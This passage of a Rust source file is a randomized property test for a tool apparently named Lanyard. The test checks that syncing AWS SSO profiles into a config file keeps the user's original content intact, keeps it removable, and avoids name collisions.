            }
        }
    }
}

/// Randomized lossless-editing check over generated configs (a stable-toolchain stand-in for a
/// cargo-fuzz target: nightly cannot be installed here).
#[cfg(test)]
mod property {
    use super::*;
    use rand::{Rng, SeedableRng, rngs::StdRng};

    const PIECES: &[&str] = &[
        "[default]",
        "[profile a]",
        "[profile b/c]",
        "[sso-session s]",
        "[services x]",
        "[plugins]",
        "# comment",
        "; semi",
        "region = us-east-1",
        "output=json",
        "  nested = 1",
        "sso =",
        "key: value",
        "",
        "   ",
        "\t",
        "[weird header]",
        "x = ünï",
        "# >>> not a lanyard marker",
        "[profile acme/Dev]",
    ];

    fn random_config(rng: &mut StdRng) -> String {
        let eol = if rng.random_bool(0.3) { "\r\n" } else { "\n" };
        let n = rng.random_range(0..25);
        let mut s: String = (0..n)
            .map(|_| format!("{}{eol}", PIECES[rng.random_range(0..PIECES.len())]))
            .collect();
        if rng.random_bool(0.3) {
            s.truncate(s.trim_end_matches(['\r', '\n']).len()); // no trailing newline
        }
        s
    }

    #[test]
    fn sync_resync_and_removal_keep_every_outside_byte() {
        let mut rng = StdRng::seed_from_u64(0x001a_7a7d);
        let id = Identity {
            session: "acme".into(),
            start_url: "https://acme.awsapps.com/start".into(),
            region: "us-east-1".into(),
            scopes: vec![],
            managed: true,
        };
        let paths = Paths::sandboxed(Path::new("/nowhere"));
        for case in 0..2000 {
            let original = random_config(&mut rng);
            let n_accounts = rng.random_range(0..6);
            let accounts: Vec<AccountRoles> = (0..n_accounts)
                .map(|i| AccountRoles {
                    account_id: format!("{:012}", 100 + i),
                    account_name: ["Acme Dev", "acme/Dev", "x", "Audit", "Audit"][i % 5].into(),
                    email: String::new(),
                    roles: vec!["Dev".into(), "ReadOnly".into()][..rng.random_range(1..=2)]
                        .to_vec(),
                })
                .collect();
            let first = plan(
                &paths,
                &id,
                &accounts,
                &ProfileSettings::default(),
                &original,
            )
            .unwrap();
            let once = render_config(&original, &first).unwrap();
            assert!(once.starts_with(&original), "case {case}: prefix");
            let second = plan(
                &paths,
                &id,
                &accounts[..accounts.len() / 2],
                &ProfileSettings::default(),
                &once,
            )
            .unwrap();
            let twice = render_config(&once, &second).unwrap();
            assert!(
                twice.starts_with(&original),
                "case {case}: prefix after re-sync"
            );
            assert_eq!(
                aws_config::remove_block(&twice, &block_id("acme")),
                original,
                "case {case}"
            );
            // Lanyard's names never collide with the user's.
            let user: BTreeSet<String> = profile_names_in(&original)
                .into_iter()
                .map(|(n, _)| n)
                .collect();
            assert!(
                first.profiles.iter().all(|p| !user.contains(&p.name)),
                "case {case}: {original:?}"
            );
            if validate(Path::new("c"), &original).is_ok() {
                validate(Path::new("c"), &twice)
                    .unwrap_or_else(|e| panic!("case {case}: {e}: {twice:?}"));
            }
        }
    }
}
